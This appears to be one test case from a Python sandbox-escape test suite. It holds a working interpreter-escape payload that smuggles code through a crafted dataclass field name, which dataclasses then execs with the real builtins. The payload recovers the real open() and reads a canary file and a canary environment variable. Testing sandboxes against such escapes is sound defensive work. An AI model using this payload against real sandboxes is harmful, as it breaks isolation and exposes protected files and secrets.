# attack: escape-dataclass-annotations
# category: interpreter-escape
# tries: add a crafted key to the program's own class's __annotations__ so dataclass() execs it in the generated __create_fn__ defaults (host code with the real builtins), then read the canaries with the real open()
# source: CPython gh-90705 / bpo-45449 (dataclasses exec generated source built from unvalidated field names); pyjail write-ups on stdlib code generators
# verdict: status in {violation, error, compile_error} and canary not in output and output lacks "REACHED"
import dataclasses, json
class C:
    pass
n = "a=type.__setattr__(__import__('json').JSONEncoder,'leak',(__import__('builtins').open,__import__('os').environ.get('{{CANARY_ENV}}'))),*b"
C.__annotations__[n] = int
setattr(C, n, dataclasses.field(init=False, repr=False, compare=False))
try:
    dataclasses.dataclass(C)
except TypeError:
    pass  # the generated function is already defined (and its defaults run) when this is raised
real_open, env = json.JSONEncoder.leak
print("REA" + "CHED", real_open.__name__, env)
print(real_open("{{CANARY_FILE}}").read())
